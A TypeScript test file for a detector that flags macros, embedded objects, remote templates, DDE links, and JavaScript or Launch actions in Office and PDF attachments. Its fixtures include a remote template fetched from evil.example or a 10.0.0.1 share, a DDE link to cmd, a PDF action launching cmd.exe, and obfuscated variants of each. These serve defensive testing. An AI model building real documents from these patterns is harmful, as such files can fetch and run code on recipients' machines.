import { deflateRawSync, deflateSync } from 'node:zlib';
import { SAMPLE_FILES, wordWith, zipOf } from '@zhengyun/test/support/sample-files.ts';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { activeIn } from './active-rules.ts';
import { judgeAttachment } from './rules.ts';

const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const NAMESPACE = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"';
const linked = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships ${NAMESPACE}><Relationship Id="rId1" Type="${RELATION}/${type}" Target="${target}"${mode}/></Relationships>`;
const settings = (text: string) => wordWith({ name: 'word/_rels/settings.xml.rels', text });
const outside = (type: string, target: string) => settings(linked(type, target));
/** A Word document whose content types say this. */
const typed = (types: string, name: string, text = '<x/>') =>
  zipOf([
    {
      name: '[Content_Types].xml',
      text: `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">${types}</Types>`,
    },
    { name: '_rels/.rels' },
    { name: 'word/document.xml', text: '<x/>' },
    { name, text },
  ]);
const override = (name: string, type: string) => `<Override PartName="/${name}" ContentType="application/${type}"/>`;
const COMPOUND = '\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1';

const pdf = (...objects: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1'),
    ...objects.flatMap((object, at) => [
      Buffer.from(`${at + 1} 0 obj\n`),
      Buffer.from(object as string, 'latin1'),
      Buffer.from('\nendobj\n'),
    ]),
    Buffer.from('trailer\n<</Root 1 0 R>>\n%%EOF\n'),
  ]);
const packed = (objects: string, about = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode') =>
  Buffer.concat([
    Buffer.from(`<<${about}>>\nstream\r\n`),
    deflateSync(Buffer.from(objects, 'latin1')),
    Buffer.from('\nendstream'),
  ]);
const SCRIPT = '<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>';

describe('what acts in a document', () => {
  it.each([
    [
      'macros by their type, whatever the part is called',
      typed(override('word/notes.bin', 'vnd.ms-office.vbaProject'), 'word/notes.bin'),
      'macros',
    ],
    [
      'macros by the document’s own type',
      typed(override('word/document.xml', 'vnd.ms-word.document.macroEnabled.main+xml'), 'word/a.xml'),
      'macros',
    ],
    ['macros by their relationship', settings(linked('vbaProject', 'notes.bin', '')), 'macros'],
    ['macros of sheets', typed(override('xl/a.xml', 'vnd.ms-excel.macrosheet+xml'), 'xl/a.xml'), 'macros'],
    ['controls', typed(override('word/activeX/a.xml', 'vnd.ms-office.activeX+xml'), 'word/activeX/a.xml'), 'controls'],
    [
      'an object by its type',
      typed(
        '<Default Extension="BIN" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
        'word/embeddings/o.bin',
      ),
      'objects',
    ],
    ['an object by its relationship', settings(linked('oleObject', 'embeddings/a.dat', '')), 'objects'],
    [
      'a compound file that is said to be nothing',
      wordWith({ name: 'word/media/image1.png', latin1: COMPOUND }),
      'objects',
    ],
    ['a page that is taken in', settings(linked('aFChunk', 'page.html', '')), 'objects'],
    [
      'a presentation within',
      wordWith({ name: 'word/embeddings/a.pptx', bytes: zipOf([{ name: 'ppt/presentation.xml' }]) }),
      'objects',
    ],
    ['a template from outside', outside('attachedTemplate', 'https://evil.example/a.dotm'), 'outside'],
    ['a template from another machine', outside('attachedTemplate', 'file:///\\\\10.0.0.1\\share\\a.dotm'), 'outside'],
    [
      'a template from another machine, encoded',
      outside('attachedTemplate', 'file:///%5C%5C10.0.0.1%5Cshare%5Ca.dotm'),
      'outside',
    ],
    ['a picture from outside', outside('image', 'http://evil.example/a.png'), 'outside'],
    ['a page in a frame', outside('frame', 'http://evil.example/'), 'outside'],
    [
      'an outside that is not called so',
      settings(linked('attachedTemplate', 'https://evil.example/a.dotm', '')),
      'outside',
    ],
    [
      'an outside in other letters',
      settings(linked('image', 'a.png', ' TargetMode="&#69;XTERNAL"').replace('a.png', '//evil.example/a.png')),
      'outside',
    ],
    ['an outside behind a prefix', settings(outsidePrefixed()), 'outside'],
    [
      'a link that exchanges data',
      typed(
        override('xl/externalLinks/a.xml', 'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml'),
        'xl/externalLinks/a.xml',
        '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
      ),
      'dde',
    ],
    ['a document type', settings(`<!DOCTYPE a [<!ENTITY b "c">]>${linked('hyperlink', 'http://a/')}`), 'unreadable'],
    ['relationships that are cut', settings(linked('hyperlink', 'http://a/').slice(0, -20)), 'unreadable'],
    [
      'relationships in another alphabet',
      settings(linked('hyperlink', 'http://a/').replace('UTF-8', 'GB18030')),
      'unreadable',
    ],
  ] as const)('is found: %s', (_, content, active) => {
    expect(activeIn('docx', content)).toMatchObject({ active });
  });

  it('is found in relationships that are written in UTF-16, and in those that are deflated', () => {
    const rels = linked('image', 'http://evil.example/a.png');
    const wide = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(rels.replace('UTF-8', 'UTF-16'), 'utf16le')]);
    expect(activeIn('docx', wordWith({ name: 'word/_rels/a.xml.rels', bytes: wide }))).toMatchObject({
      active: 'outside',
    });
    const small = { name: 'word/_rels/a.xml.rels', bytes: deflateRawSync(rels), method: 8, says: rels.length };
    expect(activeIn('docx', wordWith(small))).toMatchObject({
      active: 'outside',
      detail: 'image http://evil.example/a.png',
    });
  });

  it('is found within a workbook that a chart keeps its figures in, and not within an ordinary one', () => {
    const chart = (bytes: Buffer) => wordWith({ name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx', bytes });
    expect(activeIn('docx', chart(SAMPLE_FILES.xlsx))).toBe(null);
    const book = zipOf([
      { name: '[Content_Types].xml', text: '<Types/>' },
      { name: 'xl/workbook.xml', text: '<x/>' },
      { name: 'xl/_rels/workbook.xml.rels', text: linked('vbaProject', 'a.bin', '') },
    ]);
    expect(activeIn('docx', chart(book))).toMatchObject({ active: 'macros' });
  });

  it.each([
    ['hyperlinks', outside('hyperlink', 'https://www.gov.cn/a?b=c#d')],
    ['a mail address', outside('hyperlink', 'mailto:a@b.gov.cn')],
    [
      'the template of who wrote it, on their own disk',
      outside('attachedTemplate', 'file:///C:\\Users\\zhang\\AppData\\Roaming\\Microsoft\\Templates\\公文.dotm'),
    ],
    ['a picture that was pasted from a disk', outside('image', 'file:///D:/照片/a.png')],
    ['a sheet that reads from another beside it', outside('externalLinkPath', '2025%E5%B9%B4%E9%A2%84%E7%AE%97.xlsx')],
    [
      'settings of a printer',
      typed(
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"/>',
        'xl/printerSettings/printerSettings1.bin',
      ),
    ],
    ['boxes to tick on a sheet', settings(linked('ctrlProp', '../ctrlProps/ctrlProp1.xml', ''))],
    [
      'a type for endings that no part has',
      typed(
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
        'word/styles.xml',
      ),
    ],
    [
      'pictures and fonts',
      wordWith({ name: 'word/media/a.png', bytes: SAMPLE_FILES.png }, { name: 'word/fonts/a.odttf', text: 'x' }),
    ],
    [
      'strict relationships',
      settings(
        linked('hyperlink', 'http://a/').replace(
          'schemas.openxmlformats.org/officeDocument/2006',
          'purl.oclc.org/ooxml/officeDocument',
        ),
      ),
    ],
  ])('is none: %s', (_, content) => {
    expect(activeIn('docx', content)).toBe(null);
  });
});

function outsidePrefixed(): string {
  return `<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"><r:Relationship Id='a' TargetMode='External' Type='${RELATION}/frame' Target='http://evil.example/?a>b'/></r:Relationships>`;
}

describe('what acts in a PDF', () => {
  it.each([
    ['a script', pdf(SCRIPT), 'script'],
    ['a script in other letters', pdf('<</OpenAction<</S /J#61v#61Script /JS (x)>>>>'), 'script'],
    ['a script behind a comment', pdf('<</OpenAction<</S%a\r\n/JavaScript/JS(x)>>>>'), 'script'],
    ['a script by its name in the names’ tree', pdf('<</Names<</JavaScript 5 0 R>>>>'), 'script'],
    ['a script whose type stands apart', pdf('<</S 2 0 R/JS(x)>>', '/JavaScript'), 'script'],
    ['a program to start', pdf('<</A<</S/Launch/F(cmd.exe)>>>>'), 'launch'],
    ['a file within', pdf('<</Names<</EmbeddedFiles<</Names[(a)3 0 R]>>>>>>'), 'files'],
    ['a file within, by its stream', pdf('<</Type /EmbeddedFile/Length 1>>\nstream\na\nendstream'), 'files'],
    ['a file at a place on the page', pdf('<</Subtype/FileAttachment/FS<</EF<</F 3 0 R>>>>>>'), 'files'],
    ['a script among packed objects', pdf(packed(`1 0 ${SCRIPT}`)), 'script'],
    [
      'a script among packed objects that are not called so',
      pdf(packed(`1 0 ${SCRIPT}`, '/N 1/First 4/Filter/FlateDecode')),
      'script',
    ],
    [
      'packed objects that are encrypted',
      Buffer.concat([pdf(packed('1 0 <<>>')), Buffer.from('trailer<</Encrypt 9 0 R>>\n%%EOF')]),
      'unreadable',
    ],
    [
      'packed objects that can’t be unpacked',
      pdf('<</Type/ObjStm/Filter/FlateDecode>>\nstream\nabc\nendstream'),
      'unreadable',
    ],
  ] as const)('is found: %s', (_, content, active) => {
    expect(activeIn('pdf', content)).toMatchObject({ active });
  });

  it.each([
    [
      'the address of a page about it',
      pdf('<</A<</S/URI/URI(https://zh.wikipedia.org/wiki/JavaScript)>>>>', '<</URI(http://a/Launch)>>'),
    ],
    ['a name that only begins so', pdf('<</S/JavaScripts>>', '<</S/LaunchPad>>')],
    [
      'a form, an outline, a picture',
      pdf('<</Type/Outlines/First 2 0 R>>', '<</Type/Page/Resources<</XObject<</Im1 3 0 R>>>>>>'),
    ],
    ['packed objects', pdf(packed('1 0 <</Type/Catalog/Pages 2 0 R>>'))],
    [
      'encryption without packed objects',
      Buffer.concat([pdf('<<>>'), Buffer.from('trailer<</Encrypt 9 0 R>>\n%%EOF')]),
    ],
  ])('is none: %s', (_, content) => {
    expect(activeIn('pdf', content)).toBe(null);
  });

  it('is looked for in a time that grows with the file, however it is written', () => {
    const filler = ['/S%', '%/S\n', 'stream\n', '%/JavaScript', '/EF 1 ', '(#4a'];
    for (const each of filler) activeIn('pdf', Buffer.alloc(1_024 * 1_024, each));
  });
});

describe('an attachment that acts', () => {
  it('is refused by what was found', () => {
    expect(judgeAttachment({ name: '批复.pdf', content: pdf(SCRIPT) })).toEqual({
      code: 'ATTACHMENT_ACTIVE',
      facts: { name: '批复.pdf', active: 'script', detail: 'JavaScript' },
    });
    expect(judgeAttachment({ name: '图.png', content: SAMPLE_FILES.png })).toEqual({ kind: 'png' });
  });

  it('is found out of any bytes without failing', () => {
    const kinds = fc.constantFrom('docx', 'xlsx', 'pdf') as fc.Arbitrary<'docx' | 'xlsx' | 'pdf'>;
    fc.assert(
      fc.property(kinds, fc.uint8Array({ maxLength: 64 }), fc.nat(400), (kind, noise, at) => {
        const sample = kind === 'pdf' ? pdf(packed('1 0 <<>>')) : outside('hyperlink', 'http://a/');
        activeIn(kind, Buffer.concat([sample.subarray(0, at), noise, sample.subarray(at)]));
      }),
    );
  });
});
